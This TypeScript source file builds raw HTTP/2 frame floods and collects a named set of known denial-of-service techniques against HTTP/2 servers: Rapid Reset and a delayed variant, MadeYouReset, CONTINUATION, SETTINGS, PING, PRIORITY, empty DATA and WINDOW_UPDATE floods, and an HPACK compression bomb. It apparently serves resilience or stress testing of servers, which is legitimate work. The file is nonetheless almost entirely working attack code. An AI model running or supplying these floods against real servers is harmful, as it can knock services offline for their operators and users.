import { block, flags, frame, frames, get, post, type RawHttp2, settings, u32 } from "./raw-http2.ts";

/** Sends one batch of frames after another, as fast as the socket takes them, until closed or out of time. */
async function flood(client: RawHttp2, forMs: number, batch: (round: number) => Buffer): Promise<number> {
  const from = performance.now();
  for (let round = 0; !client.closed && performance.now() - from < forMs; round++) {
    const { socket } = client;
    const room = socket.write(batch(round));
    await new Promise<void>((resolve) => {
      if (room) setImmediate(resolve);
      else {
        const timer = setTimeout(resolve, 50);
        socket.once("drain", () => {
          clearTimeout(timer);
          resolve();
        });
      }
    });
  }
  return performance.now() - from;
}

const whole = flags.endHeaders | flags.endStream;
const getBlock = block(...get);
const postBlock = block(...post);

function resets(round: number, perBatch = 50): Buffer {
  return Buffer.concat(
    Array.from({ length: perBatch }, (_, i) => {
      const stream = 1 + 2 * (round * perBatch + i);
      return Buffer.concat([frame(frames.headers, whole, stream, getBlock), frame(frames.rst, 0, stream, u32(8))]);
    }),
  );
}

/** The server itself resets the stream, for a window update of 0: the client never sends RST_STREAM. */
function madeResets(round: number, perBatch = 50): Buffer {
  return Buffer.concat(
    Array.from({ length: perBatch }, (_, i) => {
      const stream = 1 + 2 * (round * perBatch + i);
      return Buffer.concat([frame(frames.headers, whole, stream, getBlock), frame(frames.window, 0, stream, u32(0))]);
    }),
  );
}

/** Requests whose cancellation comes a moment later, when the upstream works on them already. */
function lateResets(round: number): Buffer {
  const opened = Array.from({ length: 50 }, (_, i) => frame(frames.headers, whole, 1 + 2 * (round * 50 + i), getBlock));
  const gone =
    round === 0
      ? []
      : Array.from({ length: 50 }, (_, i) => frame(frames.rst, 0, 1 + 2 * ((round - 1) * 50 + i), u32(8)));
  return Buffer.concat([...gone, ...opened]);
}

const repeated = (bytes: Buffer, count: number): Buffer => Buffer.concat(Array.from({ length: count }, () => bytes));

/** Cancels each request in the same breath as it asks. */
export function rapidReset(client: RawHttp2, forMs: number, perBatch: number): Promise<number> {
  return flood(client, forMs, (round) => resets(round, perBatch));
}

/** Floods by name: each runs on an open connection until that is closed or time is over, and tells how long it went. */
export const floods: readonly (readonly [string, (client: RawHttp2, forMs: number) => Promise<number>])[] = [
  ["rapid reset", (client, forMs) => flood(client, forMs, (round) => resets(round))],
  ["rapid reset with a moment between", (client, forMs) => flood(client, forMs, lateResets)],
  ["MadeYouReset", (client, forMs) => flood(client, forMs, (round) => madeResets(round))],
  [
    "CONTINUATION",
    (client, forMs) => {
      client.send(frame(frames.headers, 0, 1, getBlock));
      return flood(client, forMs, () => repeated(frame(frames.continuation, 0, 1, block(["x", "y"])), 200));
    },
  ],
  ["SETTINGS", (client, forMs) => flood(client, forMs, () => repeated(settings([3, 100]), 500))],
  ["PING", (client, forMs) => flood(client, forMs, () => repeated(frame(frames.ping, 0, 0, "12345678"), 500))],
  [
    "PRIORITY",
    (client, forMs) => flood(client, forMs, () => repeated(frame(frames.priority, 0, 1, Buffer.from([0, 0, 0, 0, 1])), 500)),
  ],
  [
    "empty DATA",
    (client, forMs) => {
      client.send(frame(frames.headers, flags.endHeaders, 1, postBlock));
      return flood(client, forMs, () => repeated(frame(frames.data, 0, 1), 1_000));
    },
  ],
  [
    "WINDOW_UPDATE",
    (client, forMs) => {
      client.send(frame(frames.headers, flags.endHeaders, 1, postBlock));
      return flood(client, forMs, () => repeated(frame(frames.window, 0, 1, u32(1)), 500));
    },
  ],
  // One field of 4 KiB goes into the table; each request then names it hundreds of times with one byte each.
  [
    "HPACK bomb",
    (client, forMs) => {
      const fill = Buffer.concat([
        getBlock,
        Buffer.from([0x40]),
        Buffer.from([1]),
        Buffer.from("x"),
        Buffer.from([127, 0x80 | ((3_800 - 127) & 127), (3_800 - 127) >> 7]),
        Buffer.alloc(3_800, 97),
      ]);
      client.send(frame(frames.headers, whole, 1, fill));
      const bomb = Buffer.concat([getBlock, Buffer.alloc(8_000, 0x80 | 62)]);
      return flood(client, forMs, (round) => frame(frames.headers, whole, 3 + 2 * round, bomb));
    },
  ],
];

